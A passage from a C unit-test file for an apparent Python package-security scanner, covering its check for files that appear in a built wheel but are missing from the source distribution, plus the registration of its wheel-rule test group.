	assert_string_equal(f.v[7].path, "demo/_t.py");
	assert_non_null(strstr(f.v[7].message, "demo/_t.py is in the wheel"));
	assert_string_equal(f.v[8].path, "demo-1.0.data/purelib/zz.pth");
	assert_non_null(strstr(f.v[8].message, "zz.pth is in the wheel"));
	/* Another wheel's findings are not this one's. */
	assert_int_equal(lg_rules_divergence(&f, 0, "other-1.0-py3-none-any.whl",
					     sdist, LG_ARRAY_SIZE(sdist)), 0);
	assert_int_equal(f.n, 9);
	/* Near miss: the sdist ships _t.py (flat layout) and the .pth. */
	{
		static const char *const full[] = {
			"demo-1.0/demo/_t.py", "demo-1.0/zz.pth",
		};
		struct lg_findings g = LG_FINDINGS_INIT;

		assert_int_equal(lg_findings_add(&g, LG_RULE_SETUP_NETWORK,
						 LG_SEV_HIGH, "demo/_t.py", 9,
						 "y"), 0);
		assert_int_equal(lg_findings_add(&g, LG_RULE_PTH_EXEC_LINE,
						 LG_SEV_HIGH,
						 "demo-1.0.data/purelib/zz.pth",
						 1, "pth"), 0);
		for (size_t i = 0; i < g.n; i++)
			g.v[i].file = lg__strdup(wheel);
		assert_int_equal(lg_rules_divergence(&g, 0, wheel, full,
						     LG_ARRAY_SIZE(full)), 0);
		assert_int_equal(g.n, 2);
		lg_findings_dispose(&g);
	}
	lg_findings_dispose(&f);
}

int test_rules_wheel_group(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_wheel__startup_module),
		cmocka_unit_test(test_rules_wheel__console_shadow),
		cmocka_unit_test(test_rules_wheel__native_in_purelib),
		cmocka_unit_test(test_rules_wheel__record),
		cmocka_unit_test(test_rules_wheel__data_spread),
		cmocka_unit_test(test_rules_wheel__disguised),
		cmocka_unit_test(test_rules_wheel__disguised_run),
		cmocka_unit_test(test_rules_wheel__native_in_sdist),
		cmocka_unit_test(test_rules_wheel__record_parser),
		cmocka_unit_test(test_rules_wheel__ini_parser),
		cmocka_unit_test(test_rules_wheel__oom_sweep),
		cmocka_unit_test(test_rules_wheel__artifact_divergence),
	};

	init_heads();
	return cmocka_run_group_tests_name("rules_wheel", tests, NULL, NULL);
}
